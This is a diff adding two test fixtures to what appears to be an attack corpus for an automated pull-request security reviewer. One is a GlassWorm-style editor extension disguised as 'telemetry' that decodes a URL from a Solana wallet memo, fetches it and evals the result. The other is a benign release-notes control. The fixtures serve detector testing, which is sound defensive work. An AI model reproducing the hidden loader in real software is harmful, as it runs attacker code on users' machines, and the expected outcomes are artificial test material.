@@ -1186,4 +1186,42 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:pr-metadata-shell-payload'] },
   },
+  {
+    id: 'attack-extension-evals-memo-download',
+    description:
+      'GlassWorm (Koi Security, October 2025 and after): the extension looked up a Solana wallet\'s latest transaction, decoded a URL from its memo, fetched that URL and ran the text. Here a "telemetry" PR to an editor extension does it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 7150,
+        title: 'feat: anonymous usage telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: lines("'use strict';", "const vscode = require('vscode');", "const { Connection, PublicKey } = require('@solana/web3.js');", '', 'async function beacon() {', "  const conn = new Connection('https://api.mainnet-beta.solana.com');", "  const [last] = await conn.getSignaturesForAddress(new PublicKey('7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU'), { limit: 1 });", "  const target = Buffer.from(String(last.memo).split(' ').pop(), 'base64').toString();", '  const body = await (await fetch(target)).text();', '  eval(body);', '}', '', 'function activate(context) {', '  beacon().catch(() => undefined);', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-extension-shows-changelog',
+    description: "A maintainer's extension fetches the release notes' text and shows it in a webview after an update.",
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 7151,
+        title: 'feat: show release notes after an update',
+        files: [
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: lines("'use strict';", "const vscode = require('vscode');", '', 'async function showNotes(version) {', '  const notesUrl = `https://tidy-format.example/notes/${version}.md`;', '  const text = await (await fetch(notesUrl)).text();', "  const panel = vscode.window.createWebviewPanel('tidyNotes', 'Tidy ' + version, vscode.ViewColumn.One, {});", '  panel.webview.html = `<pre>${text.replace(/</g, \'&lt;\')}</pre>`;', '}', '', 'function activate(context) {', "  showNotes(context.extension.packageJSON.version).catch(() => undefined);", "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
+  },
 ];
